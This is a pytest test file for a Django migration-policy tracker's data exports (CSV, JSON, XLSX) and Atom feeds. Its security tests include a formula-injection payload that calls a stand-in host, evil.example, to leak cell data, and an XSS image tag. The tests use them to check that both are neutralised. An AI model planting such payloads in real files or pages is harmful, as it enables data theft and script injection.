import csv
import datetime
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gcm_tracker.dashboards.exports import COLUMNS
from gcm_tracker.tracker.enums import RecommendationStatus as Status
from gcm_tracker.tracker.models import Recommendation
from tests.factories import (
    ConsultationFactory,
    CountryFactory,
    PublishedActionFactory,
    RecommendationFactory,
    set_status,
)

from .pages import download_body

pytestmark = pytest.mark.django_db

SLUG = "border-governance-2020"
ATOM = "{http://www.w3.org/2005/Atom}"
HEADER = [c.name for c in COLUMNS]


def _export(client, fmt, **params):
    return client.get(reverse("dashboards:recommendation-export", args=[fmt]), params)


def test_csv_row_holds_every_column(client, seed):
    response = _export(client, "csv", objective="8")

    lines = list(csv.reader(io.StringIO(download_body(response).decode())))
    recommendation = Recommendation.objects.get(paragraph=37)
    assert lines == [
        HEADER,
        [
            f"{SLUG}-37",
            f"http://testserver/recommendations/{SLUG}-37/",
            SLUG,
            "2020-11-19",
            "37",
            "",
            "8",
            "g",
            "crisis; gender",
            "no_information",
            "No information",
            "",
            "0",
            recommendation.text,
            "",
            "Timely, gender-sensitive crisis communication with migrants in their languages",
            "en",
            "en",
        ],
    ]
    assert response["Content-Disposition"].startswith(
        'attachment; filename="gcm-tracker-recommendations-'
    )


def test_json_download_has_licence_query_and_rows(client, seed):
    response = _export(client, "json", objective="13")

    data = json.loads(download_body(response))
    assert (data["about"]["licence"], data["about"]["query"]) == ("CC-BY-4.0", "objective=13")
    assert [r["paragraph"] for r in data["recommendations"]] == [87, 88, 89, 90, 91, 92]
    assert list(data["recommendations"][0]) == HEADER


def test_xlsx_download_has_the_same_rows_and_a_column_guide(client, seed):
    response = _export(client, "xlsx", objective="11")

    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    rows = list(workbook.worksheets[0].values)
    guide = list(workbook.worksheets[1].values)
    assert rows[0] == tuple(HEADER)
    assert [row[0] for row in rows[1:]] == [f"{SLUG}-84", f"{SLUG}-85", f"{SLUG}-86"]
    assert [row[0] for row in guide[1 : len(HEADER) + 1]] == HEADER


def test_data_dictionary_explains_every_download_column(client):
    response = client.get(reverse("dashboards:data-dictionary"))

    # The complete file adds each translation's column to the list download's.
    assert [c.name for c in response.context["tables"][0].columns] == [
        *HEADER,
        "text_fr",
        "text_ru",
        "text_zh_hans",
        "short_title_fr",
        "short_title_ru",
        "short_title_zh_hans",
    ]
    assert "Creative Commons Attribution 4.0 International" in response.content.decode()


def _entries(response):
    root = ET.fromstring(response.content)
    return [entry.find(f"{ATOM}title").text for entry in root.findall(f"{ATOM}entry")]


def test_status_change_feed_lists_changes_newest_first(client, seed, staff):
    for paragraph, status in [(26, Status.LIMITED), (87, Status.IMPLEMENTED)]:
        set_status(Recommendation.objects.get(paragraph=paragraph), staff, new_status=status)

    site = client.get(reverse("dashboards:feed-status-changes"))
    objective = client.get(reverse("dashboards:feed-objective-status-changes", args=[13]))

    assert site["Content-Type"] == "application/atom+xml; charset=utf-8"
    title_87 = "End child immigration detention; detention of migrants only as a last resort"
    title_26 = "Provide documentation and legal identity to all migrants, whatever their status"
    assert _entries(site) == [
        f"{title_87} ({SLUG}-87): No information → Implemented",
        f"{title_26} ({SLUG}-26): No information → Limited progress",
    ]
    assert _entries(objective) == [f"{title_87} ({SLUG}-87): No information → Implemented"]


def test_action_feeds_for_site_and_country(client, seed):
    thailand, nepal = CountryFactory(iso3="THA"), CountryFactory(iso3="NPL")
    recommendation = Recommendation.objects.get(paragraph=87)
    PublishedActionFactory(
        title="Thai action", countries=[thailand], recommendations=[recommendation]
    )
    PublishedActionFactory(
        title="Nepal action",
        countries=[nepal],
        recommendations=[recommendation],
        published_at=datetime.datetime(2021, 1, 1, tzinfo=datetime.UTC),
    )

    site = client.get(reverse("dashboards:feed-actions"))
    country = client.get(reverse("dashboards:feed-country-actions", args=["NPL"]))

    assert [title.split(" (")[0] for title in _entries(site)] == ["Thai action", "Nepal action"]
    assert [title.split(" (")[0] for title in _entries(country)] == ["Nepal action"]


@pytest.mark.parametrize(
    "url",
    ["/feeds/objectives/99/actions/", "/feeds/countries/ZZZ/status-changes/"],
)
def test_feed_for_unknown_scope_answers_404(client, seed, url):
    assert client.get(url).status_code == 404


FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1, "Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


@pytest.fixture
def formula_texts(db):
    consultation = ConsultationFactory(slug="formulas")
    return [
        RecommendationFactory(consultation=consultation, paragraph=n, text=text).text
        for n, text in enumerate(FORMULAS, start=1)
    ]


def test_item_9_csv_download_neutralises_formulas_with_an_apostrophe(client, formula_texts):
    """Item 9: text a spreadsheet would run as a formula goes out prefixed with ' (OWASP)."""
    response = _export(client, "csv", consultation="formulas")

    lines = list(csv.reader(io.StringIO(download_body(response).decode(), newline="")))
    texts = [line[HEADER.index("text")] for line in lines[1:]]
    assert texts == [
        '\'=HYPERLINK("https://evil.example/?x="&A1, "Click")',
        "'+1+2",
        "'-2+3",
        "'@SUM(1,2)",
        "'\t=1+1",
        "'\r=1+1",
        "#N/A",
    ]
    assert [line[HEADER.index("paragraph")] for line in lines[1:]] == [
        "1",
        "2",
        "3",
        "4",
        "5",
        "6",
        "7",
    ]


def test_item_9_xlsx_download_stores_formula_text_as_text_cells(client, formula_texts):
    response = _export(client, "xlsx", consultation="formulas")

    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    text_column = HEADER.index("text") + 1
    cells = [sheet.cell(row=r, column=text_column) for r in range(2, 2 + len(FORMULAS))]
    # An XML reader may turn a carriage return into a line feed; the cell is text either way.
    assert [(cell.data_type, cell.value.replace("\r", "\n")) for cell in cells] == [
        ("s", text.replace("\r", "\n")) for text in FORMULAS
    ]
    assert [sheet.cell(row=r, column=HEADER.index("paragraph") + 1).data_type for r in (2, 3)] == [
        "n",
        "n",
    ]


def test_item_9_json_download_keeps_the_text_as_written(client, formula_texts):
    response = _export(client, "json", consultation="formulas")

    data = json.loads(download_body(response))
    assert [r["text"] for r in data["recommendations"]] == FORMULAS


def test_item_11_feeds_send_contributor_text_as_plain_text(client, seed, staff):
    """Item 11: summaries are type="text", so markup typed into a description stays text."""
    markup = 'Trained <b>officials</b> <img src=x onerror="alert(1)"> & more'
    PublishedActionFactory(
        description=markup, recommendations=[Recommendation.objects.get(paragraph=87)]
    )
    set_status(
        Recommendation.objects.get(paragraph=26),
        staff,
        reason="<i>Started</i>",
        effective_date=datetime.date(2021, 6, 1),
    )

    summaries = [
        ET.fromstring(client.get(reverse(name)).content).find(f"{ATOM}entry/{ATOM}summary")
        for name in ("dashboards:feed-actions", "dashboards:feed-status-changes")
    ]

    assert [(s.attrib, s.text) for s in summaries] == [
        ({"type": "text"}, markup),
        ({"type": "text"}, "Effective 1 June 2021. <i>Started</i>"),
    ]


def test_filtered_download_reads_keys_first_and_keeps_the_lists_rows_and_order(client, seed):
    # The download reads the filters' keys first, then those rows whole: the same rows, in the
    # list's order (report order), as the filters without it.
    from django.http import QueryDict

    from gcm_tracker.tracker import selectors
    from gcm_tracker.tracker.filters import RecommendationFilter

    params = "objective=13&status=no_information"
    expected = list(
        RecommendationFilter(
            QueryDict(params), queryset=selectors.recommendation_list()
        ).qs.values_list("reference", flat=True)
    )

    response = client.get(reverse("dashboards:recommendation-export", args=["csv"]) + "?" + params)

    lines = list(csv.reader(io.StringIO(download_body(response).decode())))
    assert [line[0] for line in lines[1:]] == expected
    assert len(expected) >= 2
    paragraphs = [int(line[4]) for line in lines[1:]]
    assert paragraphs == sorted(paragraphs)
